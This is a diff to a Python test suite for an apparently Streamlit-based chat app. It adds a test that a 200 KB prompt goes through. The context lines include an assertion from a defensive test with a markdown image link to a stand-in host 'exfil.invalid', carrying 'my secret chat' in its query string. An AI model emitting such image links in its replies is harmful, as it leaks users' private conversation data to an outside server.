@@ -298,3 +298,13 @@ def test_images_in_answers_are_not_loaded_unless_allowed(
     at.button(key=key(first, "images")).click().run()
     answer = next(m for m in at.chat_message if m.name == "assistant").markdown[0].value
     assert "![chart](http://exfil.invalid/?q=my+secret+chat)" in answer
+
+
+def test_a_200_kb_prompt_goes_through(write_config: Config, scenario: MakeScenario) -> None:
+    write_config(endpoints_toml(Alpha=scenario(chunk_chars=8192)))
+    at = new_app()
+    prompt = "x" * 200_000
+    send_to_card(at, cards(at)[0], prompt)
+    answer = cards(at)[0].messages[-1]
+    assert answer.status == "done"
+    assert answer.content == f"[fake-small] turn 1: {prompt}"
